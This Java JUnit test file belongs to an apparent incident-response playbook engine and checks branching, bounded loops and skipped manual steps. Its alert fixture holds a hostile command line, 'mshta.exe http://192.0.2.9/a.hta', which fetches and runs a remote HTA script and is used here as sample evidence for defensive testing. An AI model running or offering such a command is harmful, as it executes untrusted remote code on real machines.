package dupin.engine;

import static org.assertj.core.api.Assertions.assertThat;

import static dupin.engine.EngineCase.process;

import dupin.model.Condition;
import dupin.model.Entity;
import dupin.model.Playbook;
import dupin.model.Severity;
import dupin.model.StepRecord;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/// The order that a playbook's conditions and loops give.
class PlaybookFlowTest {
    private static final Entity.Process SHELL =
            process("pc1", 600, 10, "C:\\Windows\\System32\\mshta.exe", "mshta.exe http://192.0.2.9/a.hta");

    private static final List<Playbook.Step> STEPS =
            List.of(
                    step("one", "Alert evidence"),
                    step("two", "Process behaviour"),
                    new Playbook.Step("hand", Playbook.Phase.GATHER, "Call", "", List.of(), List.of("phone the owner")),
                    new Playbook.Step("weigh", Playbook.Phase.WEIGH, "Weigh", "", List.of()));

    private static Playbook.Step step(String id, String analyzer) {
        return new Playbook.Step(id, Playbook.Phase.GATHER, id, "", List.of(analyzer));
    }

    private static Condition compare(String variable, Condition.Operator operator, String value) {
        return new Condition.Test(variable, operator, false, List.of(value));
    }

    private static List<StepRecord> run(Map<String, String> variables, Playbook.Instruction... program) {
        var flow = new Playbook.Flow(List.of(program), List.of(), variables, "", List.of());
        var playbook = new Playbook("x", "X", "", STEPS, flow);
        var some = new EngineCase().alert("a1", Severity.HIGH, SHELL);
        var start = new PlaybookRun.Start("i", some.alerts(), List.of(), playbook);
        var run =
                new PlaybookRun(
                        start, EngineCase.policy(), TestWeights.shipped(), new MemoryFacts(some.alerts(), List.of()));
        var records = new ArrayList<StepRecord>();
        while (!run.done()) {
            assertThat(records).as("the run must end").hasSizeLessThan(200);
            records.add(run.next().step());
        }
        return records;
    }

    private static List<String> steps(List<StepRecord> records) {
        return records.stream().map(StepRecord::playbookStep).toList();
    }

    @Test
    void aConditionOnWhatTheRunFoundChoosesTheWay() {
        var bad = compare(Variables.MALICIOUS, Condition.Operator.GREATER_OR_EQUAL, "0");
        var worse = compare(Variables.MALICIOUS, Condition.Operator.GREATER, "1000");
        for (Condition condition : List.of(bad, worse)) {
            List<String> way =
                    steps(
                            run(
                                    Map.of(),
                                    new Playbook.Run(0),
                                    new Playbook.Branch(condition, 4, false),
                                    new Playbook.Run(1),
                                    new Playbook.Goto(5),
                                    new Playbook.Run(2),
                                    new Playbook.Run(3)));
            assertThat(way).containsExactly("one", condition == bad ? "two" : "hand", "weigh");
        }
    }

    @Test
    void aLoopEndsWhenNothingNewIsFoundAndAfterItsRoundsAtTheLatest() {
        var news = compare(Variables.NEWS, Condition.Operator.GREATER, "0");
        List<String> way =
                steps(
                        run(
                                Map.of(),
                                new Playbook.Run(0),
                                new Playbook.Branch(news, 4, true),
                                new Playbook.Run(1),
                                new Playbook.Goto(1),
                                new Playbook.Run(3)));
        assertThat(way).startsWith("one", "two").endsWith("weigh").hasSizeLessThan(8);

        var always = compare("__on__", Condition.Operator.EQUAL, "yes");
        List<StepRecord> endless =
                run(
                        Map.of("__on__", "yes"),
                        new Playbook.Branch(always, 3, true),
                        new Playbook.Run(1),
                        new Playbook.Goto(0),
                        new Playbook.Run(3));
        assertThat(endless).hasSize(Playbook.Flow.MAX_ROUNDS + 1);
        assertThat(endless.getLast().description()).contains("left after " + Playbook.Flow.MAX_ROUNDS + " rounds");
        assertThat(run(Map.of("__on__", "yes"), new Playbook.Branch(always, 2, true), new Playbook.Goto(0))).isEmpty();
    }

    @Test
    void workForPeopleIsToldAndNotDone() {
        assertThat(run(Map.of(), new Playbook.Run(2), new Playbook.Run(3)).getFirst())
                .satisfies(record -> {
                    assertThat(record.status()).isEqualTo(StepRecord.Status.SKIPPED);
                    assertThat(record.description()).isEqualTo("To be done by hand: phone the owner");
                });
    }
}
